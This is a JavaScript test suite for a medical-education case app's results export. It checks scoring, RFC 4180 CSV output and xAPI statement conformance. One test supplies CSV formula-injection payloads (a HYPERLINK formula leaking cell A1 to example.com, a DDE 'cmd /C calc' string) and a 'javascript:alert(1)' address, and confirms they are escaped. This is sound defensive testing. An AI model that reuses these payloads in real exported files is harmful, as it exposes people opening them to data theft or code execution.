// What a play leaves: answers that the core scores, a table with a line a task, and xAPI statements that are what the
// standard says they are.

import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { before, test } from "node:test";
import { loadCasesCore } from "../../web/core/cases_core.js";
import { actorOf, answersDocument, resultsCsv, Statements, tasksOf, uuid } from "../../web/teach/cases_results.js";
import { freshCase } from "../../web/teach/cases_state.js";
import { caseSet } from "../support/cases.mjs";
import { DIST } from "../support/native.mjs";
import { problems, schema } from "../support/schema.mjs";

let core;
before(async () => {
  core = await loadCasesCore(readFileSync(join(DIST, "xplaim_cases.wasm")));
});

const IRI = /^[a-z][a-z0-9+.-]*:[^\s<>"{}|\\^`]+$/i;
const DURATION = /^P(?=\d|T\d)(T(?=\d)(\d+(\.\d+)?S))?$/;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const VERB = /^http:\/\/adlnet\.gov\/expapi\/verbs\/(initialized|answered|completed|passed|failed|terminated)$/;

/** The first case twice, the second once, the third without an answer. @param {string} [certainty] */
function play(certainty = "ask") {
  const set = caseSet({ attempts: 2, certainty, pass: 50 });
  const state = (more) => ({
    ...freshCase(),
    committed: true,
    certainty: 2,
    seconds: 61.239,
    startedAt: "2026-11-29T12:00:00.000Z",
    ...more,
  });
  const responses = {
    find: { named: ["afib", "tachsr"] },
    rr: { value: 541, lead: "II", from: 1.2, to: 1.741 },
    where: { marks: [{ lead: "V1", from: 5.21, to: 5.44 }] },
    next: { chosen: ["b"] },
    say: { text: '=cmd, "quoted"\nand a second line', self: true },
  };
  const log = [
    { place: 0, state: state({ responses }) },
    {
      place: 0,
      state: state({
        attempt: 2,
        certainty: 3,
        responses: { ...responses, find: { named: ["afib"] } },
        networkShown: true,
      }),
    },
    { place: 1, state: state({ responses: { find: { named: ["pvc"] } }, networkFindings: ["pvc", "afib"] }) },
    { place: 2, state: state({ responses: { qtc: { qt: 391, rr: 923 } }, certainty: null }) },
  ];
  const learner = "Ä. Müller";
  const answers = answersDocument(set, log, learner);
  const results = core.score(JSON.stringify(set), answers);
  return { set, log, results, learner, modelSha256: "ab".repeat(32), version: "1.2.3", answers };
}

/** Rows of a table, by RFC 4180. */
function rowsOf(text) {
  const rows = [[]];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') cell += text[++i];
    else if (c === '"') quoted = !quoted;
    else if (!quoted && c === ",") [cell] = ["", rows.at(-1).push(cell)];
    else if (!quoted && c === "\r") [cell] = ["", rows.at(-1).push(cell), rows.push([]), i++];
    else cell += c;
  }
  const [head, ...lines] = rows.slice(0, -1);
  return lines.map((line) => Object.fromEntries(head.map((name, i) => [name, line[i]])));
}

test("answers and results are documents of the schema, and the core counts the better attempt", () => {
  const { answers, results } = play();
  const { $defs } = schema("answers");
  for (const [name, document] of Object.entries({ case_answers: answers, case_results: results }))
    assert.deepEqual(problems(document, { $ref: `#/$defs/${name}`, $defs }), [], name);
  assert.deepEqual(
    results.cases.map(({ attempt, counted }) => [attempt, counted]),
    [
      [1, false],
      [2, true],
      [1, true],
      [1, true],
    ],
  );
});

test("a line a task, with what is right, what it is worth, and who saw what", () => {
  const made = play();
  const lines = rowsOf(resultsCsv(made));
  assert.equal(lines.length, 5 + 5 + 1 + 2);
  const [find, rr, where, next, say] = lines;
  assert.deepEqual(Object.keys(find), [
    ...[
      "set",
      "set_title",
      "case",
      "task",
      "type",
      "attempt",
      "started_at",
      "seconds",
      "response",
      "reference",
      "tolerance",
    ],
    ...["points", "max_points", "must_named", "must_missed", "must_not_named", "precision", "recall", "certainty"],
    ...["network_shown", "network_findings", "measurements_shown", "learner", "model_sha256", "version", "disclaimer"],
  ]);
  assert.equal(find.response, "afib tachsr");
  assert.equal(find.reference, "afib");
  assert.equal(find.must_not_named, "1");
  assert.equal(find.seconds, "61.2");
  assert.equal(find.learner, "Ä. Müller");
  assert.equal(rr.response, "541");
  assert.equal(rr.reference, "520");
  assert.equal(rr.tolerance, "20");
  assert.equal(where.response, "V1 5.21-5.44 s");
  assert.equal(where.reference, "* 4.00-10.00 s");
  assert.equal(next.response, "b");
  assert.equal(say.response, `'=cmd, "quoted"\nand a second line`, "no spreadsheet takes it for a formula");
  assert.equal(lines[5].network_shown, "true");
  assert.equal(lines[10].network_findings, "pvc afib");
  assert.ok(Number(lines[12].response) > 395 && Number(lines[12].response) < 408, `QTc ${lines[12].response}`);
  for (const line of lines) assert.match(line.disclaimer, /^Research and education only/);
});

test("no spreadsheet takes a name, a title or an answer for a formula, wherever it parts cells", () => {
  const made = play();
  made.learner = '=HYPERLINK("https://example.com/"&A1)';
  made.set.title = "\t+1+cmd|' /C calc'!A0";
  made.log[0].state.responses.say.text = 'as told;=1+1\n@SUM(A1)\r\n;"-2"';
  const [find, , , , say] = rowsOf(resultsCsv(made));
  assert.equal(find.learner, `'=HYPERLINK("https://example.com/"&A1)`);
  assert.equal(find.set_title, "\t'+1+cmd|' /C calc'!A0");
  assert.equal(say.response, `as told;'=1+1\n'@SUM(A1)\r\n;"'-2"`);
  const cells = resultsCsv(made).split(/[,;\t\r\n]/);
  for (const cell of cells) assert.doesNotMatch(cell, /^"*[=+@\uff1d]|^"*-\D/, cell);
  made.learner = "\uff1dcmd";
  assert.equal(rowsOf(resultsCsv(made))[0].learner, "'\uff1dcmd");
});

/** The keys that the standard has, by what they are in; a statement with another one is refused, and so is one with null. */
const KEYS = {
  statement: ["id", "actor", "verb", "object", "result", "context", "timestamp", "version"],
  actor: ["objectType", "account", "mbox", "name"],
  verb: ["id", "display"],
  object: ["objectType", "id", "definition"],
  definition: [
    ...["type", "name", "description", "interactionType", "correctResponsesPattern", "choices", "steps"],
    ...["moreInfo", "extensions"],
  ],
  result: ["score", "success", "completion", "response", "duration", "extensions"],
  score: ["scaled", "raw", "min", "max"],
  context: ["registration", "contextActivities", "language", "platform", "extensions"],
};
const LANGUAGE = /^[a-z]{2,3}(-[A-Za-z0-9]{1,8})*$/;

/** @param {unknown} part @param {string} name */
function checkKeys(part, name) {
  assert.ok(part !== null && part !== undefined && !Number.isNaN(part), name);
  if (typeof part !== "object") return;
  for (const [key, value] of Object.entries(part)) {
    if (KEYS[name]) assert.ok(KEYS[name].includes(key), `${name}.${key}`);
    if (["display", "description", "name"].includes(name)) assert.match(key, LANGUAGE);
    checkKeys(value, key);
  }
}

/** What the standard asks of any statement. */
function checkStatement(statement) {
  checkKeys(statement, "statement");
  assert.match(statement.id, UUID);
  assert.match(statement.verb.id, VERB);
  assert.ok(statement.verb.display["en-US"]);
  assert.equal(statement.object.objectType, "Activity");
  assert.match(statement.object.id, IRI);
  assert.match(statement.object.definition.type, IRI);
  assert.ok(!Number.isNaN(Date.parse(statement.timestamp)));
  assert.match(statement.context.registration, UUID);
  assert.equal(statement.version, "1.0.3");
  const { account } = statement.actor;
  assert.match(account.homePage, IRI);
  assert.ok(account.name);
  const { result } = statement;
  if (!result) return;
  assert.match(result.duration, DURATION);
  for (const key of Object.keys(result.extensions ?? {})) assert.match(key, IRI);
  const { score } = result;
  if (!score) return;
  assert.ok(score.scaled >= -1 && score.scaled <= 1);
  assert.ok(score.min < score.max && score.raw >= score.min && score.raw <= score.max, JSON.stringify(score));
}

/** What it asks of an answer: parts that the interaction has, in the forms of its kind. */
function checkInteraction({ object, result }) {
  const { interactionType: type, correctResponsesPattern: right, choices, steps } = object.definition;
  assert.ok(["choice", "numeric", "performance", "long-fill-in"].includes(type), type);
  for (const pattern of right ?? []) assert.equal(typeof pattern, "string");
  if (type === "numeric") {
    const [low, high] = right[0].split("[:]").map(Number);
    assert.ok(Number.isFinite(low) && low <= high, right[0]);
  }
  const ids = (choices ?? steps)?.map(({ id }) => id) ?? [];
  assert.equal(new Set(ids).size, ids.length);
  for (const id of ids) assert.match(id, /^\S+$/);
  const named = [result.response, ...(right ?? [])].flatMap((text) => text.split("[,]")).filter(Boolean);
  if (type === "choice") for (const part of named) assert.ok(ids.includes(part), part);
  if (type === "performance") for (const part of named) assert.ok(ids.includes(part.split("[.]")[0]), part);
}

test("xAPI: every statement is one, responses fit their interactions, and points are those of the table", () => {
  const addresses = ["https://example.edu/ecg/rhythm-3", "", "no address at all", "javascript:alert(1)"];
  for (const [iri, certainty] of [...addresses.map((each) => [each, "ask"]), [addresses[0], "marks"]]) {
    const made = play(certainty);
    // More marks than there are targets.
    const { marks } = made.log[0].state.responses.where;
    marks.push({ lead: "II", from: 1, to: 1.5 }, { lead: "II", from: 2, to: 2.5 });
    made.results = core.score(JSON.stringify(made.set), answersDocument(made.set, made.log, ""));
    made.set.iri = iri;
    const session = uuid();
    const statements = new Statements(made.set, actorOf(null, "", session), session);
    statements.initialized();
    for (const each of tasksOf(made)) statements.answered(each);
    statements.ended(made.results, 200.5);
    statements.terminated(300);
    const { all } = statements;
    for (const statement of all) checkStatement(statement);
    assert.equal(new Set(all.map(({ id }) => id)).size, all.length);
    const verbs = all.map(({ verb }) => verb.id.split("/").pop());
    assert.deepEqual(verbs.slice(-3), ["completed", made.results.passed ? "passed" : "failed", "terminated"]);
    assert.equal(verbs[0], "initialized");
    const answered = all.filter(({ verb }) => verb.id.endsWith("answered"));
    const kinds = answered.map(({ object }) => object.definition.interactionType);
    assert.deepEqual(new Set(kinds), new Set(["choice", "numeric", "performance", "long-fill-in"]));
    const sum = answered.reduce((points, { result }) => points + (result.score?.raw ?? 0), 0);
    const table = rowsOf(resultsCsv(made)).reduce((points, line) => points + Number(line.points), 0);
    assert.ok(Math.abs(sum - table) < 1e-9, `${sum} ${table}`);
    for (const each of answered) checkInteraction(each);
  }
});

test("who plays is whom the page around says; else an account without a name", () => {
  const given = { objectType: "Agent", mbox: "mailto:a@example.edu" };
  assert.equal(actorOf(given, "B", "s"), given);
  const nameOf = (...told) => /** @type {any} */ (actorOf(told[0], told[1], "s")).account.name;
  assert.equal(nameOf(null, "B"), "B");
  assert.equal(nameOf("text", ""), "anonymous-s");
});
